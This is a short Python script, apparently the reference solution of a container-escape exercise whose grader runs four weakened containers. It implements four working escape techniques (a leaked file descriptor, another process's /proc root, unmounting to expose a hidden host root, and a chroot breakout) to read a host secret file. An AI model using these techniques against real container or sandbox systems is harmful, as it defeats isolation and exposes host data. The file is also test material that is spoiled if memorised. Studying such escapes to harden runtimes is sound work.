"""The reference's way out of a container. It prints the host's secret, and nothing else.

    unshare --user --map-root-user python3 box.py escape.py "$PWD/secret"

The argument is the path of the secret on the host. The grader has four containers. Each is open in
one way, so try one way after the other.
"""

import ctypes
import os
import sys

MNT_DETACH = 2

libc = ctypes.CDLL(None, use_errno=True)


def unmount(target):
    """Unmounts `target`. Raises OSError if that fails."""
    if libc.umount2(target.encode(), MNT_DETACH) < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))


def read(path):
    with open(path) as file:
        return file.read()


def by_descriptor(path):
    """The runtime forgot to close a descriptor."""
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                return read(f"/proc/self/fd/{name}{path}")
            except OSError:
                pass
    raise OSError("no descriptor leads to the secret")


def by_process(path):
    """A process of the host can be seen."""
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                return read(f"/proc/{name}/root{path}")
            except OSError:
                pass
    raise OSError("no process has the secret in its root")


def by_mount(path):
    """The host's root is still mounted, below something else."""
    with open("/proc/self/mountinfo") as file:
        places = [line.split()[4] for line in file]
    for place in reversed(places):
        if place != "/" and not place.startswith(("/usr", "/proc")):
            unmount(place)
            try:
                return read(place + path)
            except OSError:
                pass
    raise OSError("no mount hides the secret")


def by_chroot(path):
    """The root is a chroot."""
    os.makedirs("/inner", exist_ok=True)
    os.chroot("/inner")  # the working directory is now outside of the root
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(path)


def main(path):
    for way in (by_descriptor, by_process, by_mount, by_chroot):
        try:
            secret = way(path)
        except OSError as error:
            print(f"{way.__name__}: {error}", file=sys.stderr)
        else:
            print(secret.strip())
            return
    sys.exit(1)


main(sys.argv[1])
